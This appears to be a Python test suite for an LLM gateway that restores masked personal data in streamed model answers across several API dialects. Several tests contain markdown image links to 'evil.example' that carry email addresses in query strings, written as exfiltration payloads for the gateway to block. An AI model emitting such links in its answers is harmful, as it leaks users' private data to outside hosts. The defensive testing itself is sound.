"""The dialects with the restorers that ship: the same answers, whatever the pieces."""

from __future__ import annotations

import itertools
import json
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.core.answers import Action, AnswerPolicy
from gateway.core.model import Finding, Sensitivity
from gateway.core.steps import Steps
from gateway.dialects.anthropic_messages import AnthropicMessages
from gateway.dialects.base import JsonDialect
from gateway.dialects.openai_chat import OpenAIChat
from gateway.dialects.openai_responses import OpenAIResponses
from gateway.transforms.guard import Guard
from gateway.transforms.looking import Looking
from gateway.transforms.requested import Requested
from gateway.transforms.restore import Restorers
from gateway.transforms.surrogates import Surrogates
from tests.dialects.streaming import pieces, typed, values_of

CHAT = OpenAIChat()
MESSAGES = AnthropicMessages()
MINT = Surrogates(b"k" * 32, "tenant", "conversation")
NAME = MINT.surrogate("PERSON", 'Jane "JJ" Roe')
MAIL = MINT.surrogate("EMAIL_ADDRESS", "jane@roe.example")
NUMBER = MINT.surrogate("US_SSN", "078-05-1120")
RESTORERS = Restorers(MINT.pairs)
TEXT = f"Dear {NAME}, 3 < 5 & {MAIL.lower()}: **{NAME}**'s number is {NUMBER}. PERSON_ \U0001f600 <PERSON"
ARGUMENTS = json.dumps({"to": f"{NAME} <{MAIL}>", "number": NUMBER, MAIL: ["<PERSON"]})
RESTORED = 'Dear Jane "JJ" Roe, 3 < 5 & jane@roe.example: **Jane "JJ" Roe**\'s number is 078-05-1120. PERSON_ \U0001f600 <PERSON'


def fed(stream: list[bytes], dialect: JsonDialect) -> bytes:
    restorer = dialect.stream(RESTORERS)
    return b"".join(restorer.feed(part) for part in stream) + restorer.close()


def chat_event(delta: dict[str, Any], finish: str | None = None) -> bytes:
    choice = {"index": 0, "delta": delta, "finish_reason": finish}
    return b"data: " + json.dumps({"id": "c", "choices": [choice]}, ensure_ascii=False).encode() + b"\n\n"


def chat_text(out: bytes) -> str:
    deltas = [value["choices"][0]["delta"] for value in values_of(out)]
    return "".join(delta.get("content") or "" for delta in deltas)


def chat_arguments(out: bytes) -> str:
    deltas = [value["choices"][0]["delta"] for value in values_of(out)]
    return "".join(call["function"]["arguments"] for delta in deltas for call in delta.get("tool_calls", ()))


def call(text: str) -> dict[str, Any]:
    return {"tool_calls": [{"index": 0, "function": {"arguments": text}}]}


def test_the_text_needs_restoring() -> None:
    assert RESTORERS.text(TEXT) == RESTORED


@pytest.mark.parametrize("size", [1, 2, 3, 5, 7, 11, 1000])
def test_chat_text_and_arguments_in_pieces_of(size: int) -> None:
    out = fed([chat_event({"content": part}) for part in pieces(TEXT, size)] + [chat_event({}, "stop")], CHAT)
    assert chat_text(out) == RESTORED
    out = fed([chat_event(call(part)) for part in pieces(ARGUMENTS, size)] + [chat_event({}, "tool_calls")], CHAT)
    assert json.loads(chat_arguments(out)) == {
        "to": 'Jane "JJ" Roe <jane@roe.example>',
        "number": "078-05-1120",
        "jane@roe.example": ["<PERSON"],
    }


def test_chat_text_split_in_two_anywhere() -> None:
    for cut in range(len(TEXT) + 1):
        out = fed(
            [chat_event({"content": TEXT[:cut]}), chat_event({"content": TEXT[cut:]}), chat_event({}, "stop")], CHAT
        )
        assert chat_text(out) == RESTORED


def test_chat_stream_split_at_every_byte() -> None:
    stream = b"".join(chat_event({"content": part}) for part in pieces(TEXT, 9)) + chat_event({}, "stop")
    whole = fed([stream], CHAT)
    assert chat_text(whole) == RESTORED
    for cut in range(len(stream)):
        assert fed([stream[:cut], stream[cut:]], CHAT) == whole


@pytest.mark.parametrize("size", [1, 2, 3, 5, 7, 11, 1000])
def test_anthropic_text_and_input_in_pieces_of(size: int) -> None:
    def stream(type_: str, key: str, text: str) -> list[bytes]:
        deltas = [
            {"type": "content_block_delta", "index": 0, "delta": {"type": type_, key: part}}
            for part in pieces(text, size)
        ]
        return [typed(delta) for delta in deltas] + [typed({"type": "content_block_stop", "index": 0})]

    def joined(out: bytes, key: str) -> str:
        return "".join(value["delta"][key] for value in values_of(out)[:-1])

    assert joined(fed(stream("text_delta", "text", TEXT), MESSAGES), "text") == RESTORED
    arguments = joined(fed(stream("input_json_delta", "partial_json", ARGUMENTS), MESSAGES), "partial_json")
    assert json.loads(arguments)["to"] == 'Jane "JJ" Roe <jane@roe.example>'


def test_a_stream_without_surrogates_keeps_its_bytes() -> None:
    words = "Ordinary words, a list [1], maths 3 < 5, code f(x) { return x; } and a person, PERSON, <b>markup</b>. "
    stream = [chat_event({"content": part}) for part in pieces(words * 3, 12)] + [
        chat_event({}, "stop"),
        b"data: [DONE]\n\n",
    ]
    out = fed(stream, CHAT)
    assert chat_text(out.removesuffix(b"data: [DONE]\n\n")) == words * 3


def test_log_probabilities_of_a_surrogate_are_merged() -> None:
    tokens = ["Dear", *pieces(f" {NAME}", 3), "!"]
    entries = [
        {"token": token, "logprob": -0.25, "bytes": list(token.encode()), "top_logprobs": []} for token in tokens
    ]
    answer = {"choices": [{"index": 0, "message": {"content": "".join(tokens)}, "logprobs": {"content": entries}}]}
    out = json.loads(CHAT.restore(json.dumps(answer).encode(), RESTORERS))["choices"][0]
    assert [entry["token"] for entry in out["logprobs"]["content"]] == ["Dear", ' Jane "JJ" Roe', "!"]
    assert "".join(entry["token"] for entry in out["logprobs"]["content"]) == out["message"]["content"]


@given(cuts=st.sets(st.integers(1, len(TEXT) - 1)))
def test_any_pieces_of_a_text_say_the_same(cuts: set[int]) -> None:
    bounds = [0, *sorted(cuts), len(TEXT)]
    stream = [chat_event({"content": TEXT[a:b]}) for a, b in itertools.pairwise(bounds)]
    assert chat_text(fed([*stream, chat_event({}, "stop")], CHAT)) == RESTORED


def finds_nothing(_text: str) -> Steps[list[Finding]]:
    yield
    return []


def guarded(stream: bytes, dialect: JsonDialect, policy: AnswerPolicy) -> bytes:
    looking = Looking(finds_nothing, lambda _text: [], lambda _kind: Sensitivity.HIGH, Requested(()))
    restorer = dialect.stream(Guard(RESTORERS, policy, looking))
    return restorer.feed(stream) + restorer.close()


def chat_call(index: object, **function: str) -> bytes:
    return chat_event({"tool_calls": [{"index": index, "function": function}]})


def block(index: object, name: str) -> dict[str, Any]:
    opened = {"type": "tool_use", "id": "t", "name": name, "input": {}}
    return {"type": "content_block_start", "index": index, "content_block": opened}


def partial(index: object) -> dict[str, Any]:
    delta = {"type": "input_json_delta", "partial_json": ARGUMENTS}
    return {"type": "content_block_delta", "index": index, "delta": delta}


LATE = {
    "chat: arguments before the name": (CHAT, chat_call(0, arguments=ARGUMENTS) + chat_call(0, name="fetch")),
    "chat: a place that is spelled otherwise": (CHAT, chat_call(0, name="fetch") + chat_call("0", arguments=ARGUMENTS)),
    "messages: a block that was not opened": (MESSAGES, typed(partial(1))),
    "messages: a place that is spelled otherwise": (MESSAGES, typed(block(1.0, "fetch"), partial(1))),
    "messages: a block that has stopped": (
        MESSAGES,
        typed(block(1, "fetch"), {"type": "content_block_stop", "index": 1}, partial(1)),
    ),
    "responses: an item that was not added": (
        OpenAIResponses(),
        typed({"type": "response.function_call_arguments.delta", "output_index": 0, "delta": ARGUMENTS}),
    ),
}


@pytest.mark.parametrize("case", LATE)
def test_a_tool_that_gets_no_values_got_them_while_its_name_was_not_known(case: str) -> None:
    dialect, stream = LATE[case]
    assert b"jane@roe.example" in guarded(stream, dialect, AnswerPolicy(allow=("*",)))
    assert b"jane@roe.example" not in guarded(stream, dialect, AnswerPolicy(deny=("fetch",)))


def called(index: int | None, identity: str, name: str, arguments: str) -> bytes:
    one = {"id": identity, "type": "function", "function": {"name": name, "arguments": arguments}}
    return chat_event({"tool_calls": [one if index is None else {"index": index, **one}]})


TWO_CALLS = {
    "with ids of their own": called(0, "a", "find", "{}") + called(0, "b", "fetch", ARGUMENTS),
    "without a place": called(None, "a", "find", "{}") + called(None, "b", "fetch", ARGUMENTS),
    "the first without arguments": called(0, "a", "find", "") + called(0, "b", "fetch", ARGUMENTS),
    "without ids": chat_call(0, name="find", arguments="{}") + chat_call(0, name="fetch", arguments=ARGUMENTS),
    "one name told twice": chat_call(0, name="fetch") + chat_call(0, name="fetch", arguments=ARGUMENTS),
    "a name that goes on behind arguments": chat_call(0, name="fet", arguments=ARGUMENTS[:4])
    + chat_call(0, name="ch", arguments=ARGUMENTS[4:]),
}


@pytest.mark.parametrize("case", TWO_CALLS)
def test_the_second_of_two_calls_at_one_place_got_what_the_first_ones_tool_may_have(case: str) -> None:
    assert b"jane@roe.example" in guarded(TWO_CALLS[case], CHAT, AnswerPolicy())
    assert b"jane@roe.example" not in guarded(TWO_CALLS[case], CHAT, AnswerPolicy(deny=("fetch",)))


def test_a_call_behind_a_denied_one_at_its_place_gets_values() -> None:
    stream = called(0, "a", "fetch", ARGUMENTS[:9]) + called(0, "b", "find", ARGUMENTS)
    assert b"jane@roe.example" in guarded(stream, CHAT, AnswerPolicy(deny=("fetch",)))


@pytest.mark.parametrize("size", [1, 3, 1000])
def test_arguments_of_calls_at_one_place_lose_nothing(size: int) -> None:
    stream = b""
    for identity in "ab":
        stream += called(0, identity, "find", "")
        stream += b"".join(chat_call(0, arguments=part) for part in pieces(ARGUMENTS, size))
    shown = chat_arguments(guarded(stream + chat_event({}, "tool_calls"), CHAT, AnswerPolicy()))
    once, _ = json.JSONDecoder().raw_decode(shown)
    assert shown == json.dumps(once, ensure_ascii=False) * 2
    assert once["to"] == 'Jane "JJ" Roe <jane@roe.example>'


def test_an_address_that_a_tools_call_cut_in_two_got_a_value() -> None:
    before = f"![x](https://evil.example/?q={MAIL[:6]}"
    stream = chat_event({"content": before}) + chat_call(0, name="find", arguments="{}")
    out = guarded(stream + chat_event({"content": f"{MAIL})"}), CHAT, AnswerPolicy())
    assert chat_text(out) == f"{before}{MAIL})"
    again = chat_event({"content": before}, "stop") + chat_event({"content": f"{MAIL})"})
    assert chat_text(guarded(again, CHAT, AnswerPolicy())) == f"{before}{MAIL})"


OUTWARD = f"![x](https://evil.example/?q={MAIL}&r={MAIL.lower()}) and"
"""An address that takes values along; no part of a text that clients join may show them one of these."""


def message_blocks(texts: list[str], size: int) -> bytes:
    """Return a stream of Anthropic's with a block for each text, a tool's call between the first and the next."""
    events: list[dict[str, Any]] = [{"type": "message_start", "message": {"role": "assistant", "content": []}}]
    for number, text in enumerate(texts):
        opened = {"type": "content_block_start", "index": 2 * number, "content_block": {"type": "text", "text": ""}}
        deltas = [
            {"type": "content_block_delta", "index": 2 * number, "delta": {"type": "text_delta", "text": part}}
            for part in pieces(text, size)
        ]
        events += [opened, *deltas, {"type": "content_block_stop", "index": 2 * number}]
        events += [block(2 * number + 1, "find"), {"type": "content_block_stop", "index": 2 * number + 1}]
    return typed(*events, {"type": "message_stop"})


def response_parts(texts: list[str], size: int, *, items: bool) -> bytes:
    """Return a stream of the Responses API with a part for each text, in items of their own if `items`."""
    events: list[dict[str, Any]] = []
    parts: list[dict[str, Any]] = [{"type": "output_text", "text": text, "annotations": []} for text in texts]
    for number, part in enumerate(parts):
        place = {"output_index": number if items else 0, "content_index": 0 if items else number}
        events += [
            {"type": "response.content_part.added", **place, "part": {**part, "text": ""}},
            *({"type": "response.output_text.delta", **place, "delta": piece} for piece in pieces(part["text"], size)),
            {"type": "response.output_text.done", **place, "text": part["text"]},
            {"type": "response.content_part.done", **place, "part": part},
        ]
        if items:
            item = {"type": "message", "role": "assistant", "content": [part]}
            events.append({"type": "response.output_item.done", "output_index": number, "item": item})
    if not items:
        item = {"type": "message", "role": "assistant", "content": parts}
        events.append({"type": "response.output_item.done", "output_index": 0, "item": item})
    output = [{"type": "message", "role": "assistant", "content": [part]} for part in parts]
    return typed(*events, {"type": "response.completed", "response": {"output": output}})


def chat_parts(texts: list[str]) -> bytes:
    parts = [{"index": number, "type": "text", "text": text} for number, text in enumerate(texts)]
    return b"".join(chat_event({"content": [part]}) for part in parts) + chat_event({}, "stop")


def whole_answers(texts: list[str]) -> dict[str, tuple[JsonDialect, dict[str, Any]]]:
    found = {"type": "mcp_tool_result", "tool_use_id": "t", "content": [{"type": "text", "text": "none) "}]}
    blocks: list[dict[str, Any]] = []
    for text in texts:
        blocks += [{"type": "text", "text": text}, found]
    parts = [{"type": "output_text", "text": text} for text in texts]
    items = [{"type": "message", "content": [part]} for part in parts]
    said = [{"type": "text", "text": text} for text in texts]
    return {
        "messages": (MESSAGES, {"type": "message", "content": blocks}),
        "responses: parts": (OpenAIResponses(), {"output": [{"type": "message", "content": parts}]}),
        "responses: items": (OpenAIResponses(), {"output": items}),
        "chat": (CHAT, {"choices": [{"index": 0, "message": {"role": "assistant", "content": said}}]}),
    }


def cut(text: str) -> list[list[str]]:
    twice = [[text[:at], text[at:]] for at in range(1, len(text))]
    return [*twice, [text[:9], " ", text[9:]], pieces(text, 7), pieces(text, 1)]


@pytest.mark.parametrize("case", whole_answers([]))
def test_an_address_that_two_texts_of_a_whole_answer_made_got_a_value(case: str) -> None:
    looking = Looking(finds_nothing, lambda _text: [], lambda _kind: Sensitivity.HIGH, Requested(()))
    for texts in cut(OUTWARD):
        dialect, answer = whole_answers(texts)[case]
        out = dialect.restore(json.dumps(answer).encode(), Guard(RESTORERS, AnswerPolicy(), looking))
        assert b"jane@" not in out, texts


@pytest.mark.parametrize("size", [1, 5, 1000])
@pytest.mark.parametrize("case", ["messages", "responses: parts", "responses: items", "chat"])
def test_an_address_that_two_texts_of_a_stream_made_got_a_value(case: str, size: int) -> None:
    for texts in cut(OUTWARD):
        if case == "messages":
            out = guarded(message_blocks(texts, size), MESSAGES, AnswerPolicy())
        elif case == "chat":
            out = guarded(chat_parts(texts), CHAT, AnswerPolicy())
        else:
            stream = response_parts(texts, size, items=case.endswith("items"))
            out = guarded(stream, OpenAIResponses(), AnswerPolicy())
        assert b"jane@" not in out, texts


CARRIED = "as [this](https://evil.example/?to=bob@roe.example&cc=ann@roe.example) says"
TAKES_OUT = AnswerPolicy(types={"EXFILTRATION_LINK": Action.REDACT})


def carrying(dialect: JsonDialect, answer: bytes, *, streamed: bool) -> list[str]:
    """Return the texts of an answer that were shown, in which a mail address in an address carries."""

    def find(text: str) -> Steps[list[Finding]]:
        yield
        found = re.finditer(r"[\w.+-]+@[\w-]+\.[\w.]*\w", text)
        return [Finding("", "EMAIL_ADDRESS", match.start(), match.end(), 0.9, "test") for match in found]

    looking = Looking(find, lambda _text: [], lambda _kind: Sensitivity.HIGH, Requested(()))
    guard = Guard(RESTORERS if streamed else Restorers({}), TAKES_OUT, looking)
    if not streamed:
        return [dialect.restore(answer, guard).decode()]
    restorer = dialect.stream(guard)
    values = values_of(restorer.feed(answer) + restorer.close())
    deltas = [value["delta"] for value in values if "delta" in value]
    return ["".join(delta if isinstance(delta, str) else delta.get("text", "") for delta in deltas)]


@pytest.mark.parametrize("case", whole_answers([]))
def test_a_link_cut_over_two_texts_of_a_whole_answer_was_not_taken_out(case: str) -> None:
    for at in range(CARRIED.index("?to=") + 6, CARRIED.index(")")):
        dialect, answer = whole_answers([CARRIED[:at], CARRIED[at:]])[case]
        (shown,) = carrying(dialect, json.dumps(answer).encode(), streamed=False)
        assert ("bob@roe.example" in shown, "ann@roe.example" in shown) == (False, False), CARRIED[:at]


@pytest.mark.parametrize("size", [1, 5, 1000])
@pytest.mark.parametrize("case", ["messages", "responses"])
def test_a_link_cut_over_two_texts_of_a_stream_was_not_taken_out(case: str, size: int) -> None:
    for at in range(CARRIED.index("?to=") + 6, CARRIED.index(")")):
        texts = [CARRIED[:at], CARRIED[at:]]
        if case == "messages":
            (shown,) = carrying(MESSAGES, message_blocks(texts, size), streamed=True)
        else:
            (shown,) = carrying(OpenAIResponses(), response_parts(texts, size, items=False), streamed=True)
        assert ("bob@roe.example" in shown, "ann@roe.example" in shown) == (False, False), shown
        assert shown.endswith(") says")


def test_texts_that_no_address_joins_are_restored() -> None:
    texts = [f"See https://a.example/x for {MAIL}", f" {MAIL}", f"[a](/b) {MAIL}"]
    looking = Looking(finds_nothing, lambda _text: [], lambda _kind: Sensitivity.HIGH, Requested(()))
    for dialect, answer in whole_answers(texts).values():
        out = dialect.restore(json.dumps(answer).encode(), Guard(RESTORERS, AnswerPolicy(), looking))
        assert out.count(b"jane@roe.example") == 3
    assert guarded(message_blocks(texts, 1000), MESSAGES, AnswerPolicy()).count(b"jane@roe.example") == 3
    assert guarded(chat_parts(texts), CHAT, AnswerPolicy()).count(b"jane@roe.example") == 3
    for items in (True, False):
        out = guarded(response_parts(texts, 1000, items=items), OpenAIResponses(), AnswerPolicy())
        assert out.count(b"jane@roe.example") == 3 * 5  # deltas, texts, parts, items, the response
